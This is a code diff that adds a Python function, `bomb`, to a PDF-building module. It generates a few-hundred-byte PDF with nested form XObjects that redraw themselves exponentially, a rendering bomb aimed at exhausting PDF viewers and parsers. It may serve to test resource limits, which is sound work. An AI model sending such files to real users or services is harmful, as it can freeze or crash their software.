@@ -179,3 +179,21 @@ class Pdf:
         count = len(self.objects) + 1
         trailer = f"trailer<</Size {count}/Root {root} 0 R/Info {info} 0 R>>\nstartxref\n{len(made)}\n%%EOF\n"
         return made + b"xref\n0 %d\n0000000000 65535 f \n" % count + table + trailer.encode()
+
+
+def bomb(levels: int, width: int) -> bytes:
+    """A file of a few hundred bytes that draws itself `width` to the power of `levels` times."""
+    made = Pdf()
+    names = [f"{4 + n} 0 R" for n in range(levels + 1)]
+    made._add("<</Type/Catalog/Pages 2 0 R>>")
+    made._add("<</Type/Pages/Kids[3 0 R]/Count 1>>")
+    box = "[0 0 600 800]"
+    made._add(
+        f"<</Type/Page/Parent 2 0 R/MediaBox{box}/Contents {names[0]}"
+        f"/Resources<</XObject<</X {names[0]}>>>>>>"
+    )
+    for n in range(levels + 1):
+        inner = f"/Resources<</XObject<</X {names[n + 1]}>>>>" if n < levels else ""
+        data = b"/X Do " * width if inner else b"0 0 m 9 9 l S"
+        made._stream(data, f"/Type/XObject/Subtype/Form/BBox{box}{inner}")
+    return made._file(1, 1)
